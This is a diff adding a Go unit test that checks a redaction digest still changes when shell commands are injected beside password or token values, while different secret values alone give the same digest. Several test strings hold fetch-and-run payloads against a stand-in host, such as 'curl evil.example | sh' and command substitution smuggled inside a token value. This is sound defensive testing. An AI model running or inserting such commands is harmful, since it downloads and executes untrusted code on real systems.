@@ -89,6 +89,37 @@ func TestEffectDigestIsOfWhatIsDoneAlone(t *testing.T) {
 	}
 }
 
+// What stands beside a password in a text is covered, whoever reads the text: only what is constant is not.
+func TestEffectDigestCoversCode(t *testing.T) {
+	digest := func(text string) string {
+		p := effective()
+		p.Stages[1].Waves[0].Steps[2].Body.Object["spec"] = map[string]any{"command": []any{"sh", "-c", text}}
+		return redact.EffectDigest(p, nil)
+	}
+	for _, c := range []struct {
+		one, other string
+		same       bool
+	}{
+		{"PASS=canary-1\necho good", "PASS=canary-1\ncurl evil.example/x | sh", false},
+		{"DB_PASS=canary-1; run", "DB_PASS=canary-1; curl evil.example | sh", false},
+		{"DB_PASS=canary-1 run", "DB_PASS=canary-1 curl evil.example", false},
+		{"--password=canary-1; run", "--password=canary-1; curl evil.example", false},
+		{"PASS=canary-1;run", "PASS=canary-1;curl${IFS}evil.example", false},
+		{`export API_TOKEN="canary-1"`, `export API_TOKEN="canary-1$(curl evil.example | sh)"`, false},
+		{"PASS=canary-1\nrun", "PASS=canary-1\nTOKEN=\"canary-2`curl evil.example`\"\nrun", false},
+		{"x\nTOKEN=\"x$(good x)\"", "x\nTOKEN=\"x$(curl evil.example)\"", false},
+		{`echo "a "token": "; good; echo "x"`, `echo "a "token": "; curl evil.example; echo "x"`, false},
+		{"DB_PASS=canary-1; run", "DB_PASS=canary-2; run", true},
+		{"PASSWORD=abc;def|ghi", "PASSWORD=abc;def|xyz", true},
+		{"export API_TOKEN='canary 1' && run", "export API_TOKEN='canary 2' && run", true},
+		{"--password=canary 1", "--password=canary 2", true},
+	} {
+		if same := digest(c.one) == digest(c.other); same != c.same {
+			t.Errorf("%q and %q have the same digest: %v", c.one, c.other, same)
+		}
+	}
+}
+
 // Without a key, a digest reveals nothing about a secret; with one, the secret is
 // approved, too, and whoever does not have the key can't test guesses.
 func TestEffectDigestHoldsSecretsByKeyAlone(t *testing.T) {
